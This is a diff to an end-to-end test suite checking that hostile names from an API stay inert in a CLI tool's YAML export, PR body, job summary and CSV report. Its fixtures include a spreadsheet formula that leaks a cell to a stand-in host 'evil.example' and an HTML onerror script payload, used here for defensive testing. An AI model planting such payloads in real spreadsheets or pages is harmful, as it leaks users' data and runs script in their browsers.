@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { Workspace } from '../support/e2e.js';
+import { withoutFloor } from '../support/settings-text.js';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 const HTML = '<img src=x onerror=alert(1)>';
@@ -43,6 +44,8 @@ describe('hostile names from the API stay inert', () => {
 
   it('in the YAML round trip, the PR body, the job summary and the CSV report', async () => {
     expect((await ws.cli(['export', '--out', 'desired-state'])).code).toBe(0);
+    // not a test of the service-level floor, whose verdict depends on the time of day the suite runs
+    await withoutFloor(ws.dir);
     const diff = await ws.cli(['diff']);
     expect(diff.stdout + diff.stderr).toBe('No changes. The org matches git.\n');
 
@@ -70,7 +73,7 @@ describe('hostile names from the API stay inert', () => {
       'summary.md',
       '--ignore-window',
     ]);
-    expect(apply.code).toBe(0);
+    expect(apply.code, apply.stderr + apply.stdout).toBe(0);
     const summary = await readFile(join(ws.cwd, 'summary.md'), 'utf8');
     expect(summary).not.toMatch(/(^|[^\\])<img/);
     expect(summary).not.toContain('](http://evil');
